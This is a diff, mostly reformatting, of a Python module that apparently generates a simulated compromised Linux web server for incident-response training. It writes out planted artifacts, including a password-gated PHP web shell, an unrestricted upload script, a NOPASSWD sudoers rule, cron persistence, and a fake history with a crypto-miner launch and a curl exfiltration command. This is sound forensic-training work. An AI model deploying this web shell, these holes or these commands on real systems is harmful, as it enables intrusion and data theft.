@@ -15,7 +15,13 @@ from pathlib import Path
 from irkit.sim.scenarios.web_to_role_theft.story import WEB_PORT, Host, Story
 from irkit.sim.scenarios.web_to_role_theft.weblog import access_log
 
-DAEMONS = ("/usr/sbin/httpd", "/usr/sbin/sshd", "/usr/sbin/crond", "/usr/bin/amazon-ssm-agent", "/usr/sbin/chronyd")
+DAEMONS = (
+    "/usr/sbin/httpd",
+    "/usr/sbin/sshd",
+    "/usr/sbin/crond",
+    "/usr/bin/amazon-ssm-agent",
+    "/usr/sbin/chronyd",
+)
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
@@ -40,7 +46,9 @@ def removed_files(story: Story) -> dict[str, File]:
     """What the intruder deleted: its traces are in the disk image only."""
     rng, intruder, times = story.rng("removed"), story.intruder, story.times
     return {
-        intruder.miner: File(content=b"\x7fELF\x02\x01\x01" + rng.randbytes(48_000), when=times.miner, mode=0o700),
+        intruder.miner: File(
+            content=b"\x7fELF\x02\x01\x01" + rng.randbytes(48_000), when=times.miner, mode=0o700
+        ),
         intruder.archive_path: File(content=b"\x1f\x8b\x08" + rng.randbytes(90_000), when=times.exfil),
     }
 
@@ -56,7 +64,14 @@ def write_tree(files: dict[str, File], root: Path) -> None:
         stamp = file.when.timestamp()
         os.utime(path, (stamp, stamp))
         newest[path.parent] = max(newest.get(path.parent, 0.0), stamp)
-    for name in ("tmp", "var/tmp", "var/spool/cron", "etc/systemd/system/multi-user.target.wants", "run", "srv/data"):
+    for name in (
+        "tmp",
+        "var/tmp",
+        "var/spool/cron",
+        "etc/systemd/system/multi-user.target.wants",
+        "run",
+        "srv/data",
+    ):
         (root / name).mkdir(parents=True, exist_ok=True)
     for daemon in DAEMONS:
         # stands in for the daemon: a process that does nothing but has the right name and path
@@ -78,7 +93,7 @@ def _text(text: str, when: datetime, mode: int = 0o644) -> File:
 def _system(story: Story, host: Host) -> dict[str, File]:
     built = story.times.at.replace(hour=4, minute=12, second=8) - timedelta(days=210)
     launched = story.times.at - timedelta(days=19, hours=3)
-    passwd = (
+    accounts = (
         "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n"
         "sshd:x:74:74:Privilege-separated SSH:/usr/share/empty.sshd:/sbin/nologin\n"
         "apache:x:48:48:Apache:/usr/share/httpd:/sbin/nologin\n"
@@ -89,20 +104,26 @@ def _system(story: Story, host: Host) -> dict[str, File]:
         'PLATFORM_ID="platform:al2023"\nPRETTY_NAME="Amazon Linux 2023.6.20250115"\n'
     )
     return {
-        "/etc/passwd": _text(passwd, built),
-        "/etc/group": _text("root:x:0:\nbin:x:1:\nsshd:x:74:\napache:x:48:\nec2-user:x:1000:\nwheel:x:10:ec2-user\n",
-                            built),
-        "/etc/shadow": _text("root:*LOCK*:14600::::::\napache:!!:19900::::::\nec2-user:!!:19900::::::\n", built, 0o600),
+        "/etc/passwd": _text(accounts, built),
+        "/etc/group": _text(
+            "root:x:0:\nbin:x:1:\nsshd:x:74:\napache:x:48:\nec2-user:x:1000:\nwheel:x:10:ec2-user\n", built
+        ),
+        "/etc/shadow": _text(
+            "root:*LOCK*:14600::::::\napache:!!:19900::::::\nec2-user:!!:19900::::::\n", built, 0o600
+        ),
         "/etc/os-release": _text(release, built),
         "/etc/system-release": _text("Amazon Linux release 2023.6.20250115 (Amazon Linux)\n", built),
         "/etc/hostname": _text(f"{host.hostname}\n", launched),
         "/etc/hosts": _text(f"127.0.0.1 localhost\n{host.private_ip} {host.hostname}\n", launched),
         "/etc/resolv.conf": _text("nameserver 10.20.0.2\nsearch ec2.internal\n", launched),
         "/etc/machine-id": _text(f"{story.rng(host.private_ip).getrandbits(128):032x}\n", launched, 0o444),
-        "/etc/fstab": _text("UUID=root / ext4 defaults,noatime 1 1\nLABEL=data /srv/data ext4 defaults,nofail 0 2\n",
-                            launched),
+        "/etc/fstab": _text(
+            "UUID=root / ext4 defaults,noatime 1 1\nLABEL=data /srv/data ext4 defaults,nofail 0 2\n", launched
+        ),
         "/etc/nsswitch.conf": _text("passwd: files\ngroup: files\nhosts: files dns\n", built),
-        "/etc/ssh/sshd_config": _text("PermitRootLogin forced-commands-only\nPasswordAuthentication no\n", built, 0o600),
+        "/etc/ssh/sshd_config": _text(
+            "PermitRootLogin forced-commands-only\nPasswordAuthentication no\n", built, 0o600
+        ),
         "/etc/crontab": _text("SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n", built),
         "/etc/cron.d/0hourly": _text("01 * * * * root run-parts /etc/cron.hourly\n", built),
         "/etc/cron.d/dnf-automatic": _text("20 4 * * * root /usr/bin/dnf-automatic --timer\n", built),
@@ -111,7 +132,9 @@ def _system(story: Story, host: Host) -> dict[str, File]:
         "/etc/sudoers.d/95-deploy": _text("apache ALL=(ALL) NOPASSWD:ALL\n", launched, 0o440),
         "/etc/systemd/system/amazon-ssm-agent.service": _text(
             "[Unit]\nDescription=amazon-ssm-agent\n[Service]\nExecStart=/usr/bin/amazon-ssm-agent\n"
-            "[Install]\nWantedBy=multi-user.target\n", built),
+            "[Install]\nWantedBy=multi-user.target\n",
+            built,
+        ),
         "/etc/httpd/conf/httpd.conf": _text(f'Listen {WEB_PORT}\nDocumentRoot "/var/www/html"\n', launched),
         "/var/lib/cloud/instance/user-data.txt": _text(user_data(story), launched, 0o600),
         "/var/lib/amazon/ssm/Vault/Store/RegistrationKey": _text("{}\n", launched, 0o600),
@@ -131,10 +154,15 @@ def user_data(story: Story) -> str:
 
 def _website(story: Story) -> dict[str, File]:
     deployed = story.times.at - timedelta(days=9, hours=1)
-    upload = "<?php\n$to = 'uploads/' . $_FILES['file']['name'];\nmove_uploaded_file($_FILES['file']['tmp_name'], $to);\n"
+    upload = (
+        "<?php\n$to = 'uploads/' . $_FILES['file']['name'];\n"
+        "move_uploaded_file($_FILES['file']['tmp_name'], $to);\n"
+    )
     return {
         "/var/www/html/index.php": _text("<?php require 'config.php'; echo 'shop';\n", deployed),
-        "/var/www/html/config.php": _text("<?php $db = 'pgsql:host=10.20.3.30;dbname=shop';\n", deployed, 0o640),
+        "/var/www/html/config.php": _text(
+            "<?php $db = 'pgsql:host=10.20.3.30;dbname=shop';\n", deployed, 0o640
+        ),
         "/var/www/html/upload.php": _text(upload, deployed),
         "/var/www/html/health.php": _text("ok\n", deployed),
         "/var/www/html/uploads/banner.jpg": File(content=b"\xff\xd8\xff\xe0" + bytes(2_000), when=deployed),
@@ -148,7 +176,9 @@ def _home(story: Story) -> dict[str, File]:
     forced = 'no-port-forwarding,command="echo \'Please login as the user \\"ec2-user\\"\';exit 142" '
     return {
         "/home/ec2-user/.bashrc": _text("# .bashrc\n", launched),
-        "/home/ec2-user/.bash_history": _text("sudo systemctl status httpd\nexit\n", launched + timedelta(days=2), 0o600),
+        "/home/ec2-user/.bash_history": _text(
+            "sudo systemctl status httpd\nexit\n", launched + timedelta(days=2), 0o600
+        ),
         "/home/ec2-user/.ssh/authorized_keys": _text(key, launched, 0o600),
         "/root/.ssh/authorized_keys": _text(forced + key, launched, 0o600),
         "/root/.bashrc": _text("# .bashrc\n", launched),
@@ -162,8 +192,8 @@ def _logs(story: Story, host: Host, *, broken_into: bool) -> dict[str, File]:
     secure, cron, messages = [], [], []
     when = at - timedelta(hours=48)
     while when < at:
-        secure.append((when, f"sshd[{rng.randrange(900, 30_000)}]: Connection closed by 198.18.{rng.randrange(60, 99)}."
-                             f"{rng.randrange(1, 254)} port {rng.randrange(1024, 65_000)} [preauth]"))
+        scanner = f"198.18.{rng.randrange(60, 99)}.{rng.randrange(1, 254)} port {rng.randrange(1024, 65_000)}"
+        secure.append((when, f"sshd[{rng.randrange(900, 30_000)}]: Connection closed by {scanner} [preauth]"))
         messages.append((when, f"systemd[1]: Started session-{rng.randrange(10, 9_999)}.scope."))
         cron.append((when, "CROND[2211]: (root) CMD (run-parts /etc/cron.hourly)"))
         when += timedelta(minutes=60)
@@ -171,8 +201,8 @@ def _logs(story: Story, host: Host, *, broken_into: bool) -> dict[str, File]:
         secure += _sudo_lines(story)
         when = story.times.cron + timedelta(minutes=10 - story.times.cron.minute % 10)
         while when < at:
-            cron.append((when.replace(second=1), f"CROND[{rng.randrange(3_000, 30_000)}]: (root) CMD "
-                                                 f"({story.intruder.cron_command})"))
+            command = f"(root) CMD ({story.intruder.cron_command})"
+            cron.append((when.replace(second=1), f"CROND[{rng.randrange(3_000, 30_000)}]: {command}"))
             when += timedelta(minutes=10)
     return {
         "/var/log/httpd/access_log": _text(visits, at - timedelta(seconds=5)),
@@ -203,7 +233,9 @@ def _syslog(name: str, lines: list[tuple[datetime, str]]) -> str:
 
 def _planted(story: Story) -> dict[str, File]:
     intruder, times, estate = story.intruder, story.times, story.estate
-    shell = f"<?php if (($_GET['k'] ?? '') === '{intruder.shell_password}') {{ system($_GET['c'] . ' 2>&1'); }}\n"
+    shell = (
+        f"<?php if (($_GET['k'] ?? '') === '{intruder.shell_password}') {{ system($_GET['c'] . ' 2>&1'); }}\n"
+    )
     keys = (
         f"ssh-ed25519 {estate.launch_key_blob} {estate.launch_key}\n"
         f"ssh-ed25519 {intruder.ssh_blob} {intruder.ssh_comment}\n"
@@ -212,7 +244,10 @@ def _planted(story: Story) -> dict[str, File]:
         f"#{int(when.timestamp())}\n{command}\n"
         for when, command in (
             (times.miner - timedelta(seconds=30), f"mkdir -p {intruder.miner_dir}"),
-            (times.miner, f"{intruder.miner} -o stratum+tcp://{intruder.pool_ip}:{intruder.pool_port} --background"),
+            (
+                times.miner,
+                f"{intruder.miner} -o stratum+tcp://{intruder.pool_ip}:{intruder.pool_port} --background",
+            ),
             (times.miner + timedelta(seconds=20), f"rm -f {intruder.miner}"),
             (times.cron, f"vi {intruder.cron_path}"),
             (times.exfil, f"curl -sT {intruder.archive_path} https://{intruder.exfil_ip}/"),
@@ -225,7 +260,9 @@ def _planted(story: Story) -> dict[str, File]:
     )
     return {
         intruder.shell_path: _text(shell, times.upload),
-        intruder.hostile_file: File(content=b"\xff\xd8\xff\xe0 not a picture", when=times.upload + timedelta(minutes=2)),
+        intruder.hostile_file: File(
+            content=b"\xff\xd8\xff\xe0 not a picture", when=times.upload + timedelta(minutes=2)
+        ),
         intruder.cron_path: _text(f"*/10 * * * * root {intruder.cron_command}\n", times.cron),
         "/home/ec2-user/.ssh/authorized_keys": _text(keys, times.ssh, 0o600),
         "/root/.bash_history": _text(history, times.exfil + timedelta(minutes=15), 0o600),
